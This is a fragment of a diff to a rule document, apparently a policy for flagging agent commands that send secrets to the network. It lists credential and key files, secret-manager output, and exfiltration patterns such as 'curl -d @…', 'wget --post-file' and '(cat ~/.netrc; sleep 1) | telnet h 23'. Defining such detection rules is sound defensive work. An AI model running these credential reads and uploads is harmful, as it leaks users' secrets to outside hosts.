@@ -300,7 +300,11 @@ runs a command in a container or a pod it names (``run_container`` with ``image`
   ``~/.kube/config``, ``~/.git-credentials``, ``~/.npmrc``, ``~/.pypirc``,
   ``~/.config/gh/hosts.yml``, ``~/.docker/config.json``, ``~/.config/gcloud`` and what it
   holds, data platforms' tokens (``~/.kaggle/kaggle.json``, Hugging Face's ``token``,
-  ``~/.databrickscfg``), private keys, …; also one read on another host, ``ssh h 'cat
+  ``~/.databrickscfg``), private keys (named for their use too: ``deploy_ed25519``; mobile
+  signing's ``.p8``, ``.jks``, ``.keystore``; a service account's ``*-sa.json``), what a
+  secret manager prints (``sops -d``, ``bw``, ``doppler``), a secret variable as a whole
+  body, a secret written in a request to another service, …; also one read on another
+  host, ``ssh h 'cat
   ~/.aws/credentials' | curl …``) or the environment (``env``, ``printenv``) sent to the network:
   ``curl -d @…`` / ``-F f=@…`` / ``-T`` (alone or clustered: ``-sT F``, ``-sSLT F``), ``wget
   --post-file``, piped (alone or by a group: ``(cat ~/.netrc; sleep 1) | telnet h 23``) or
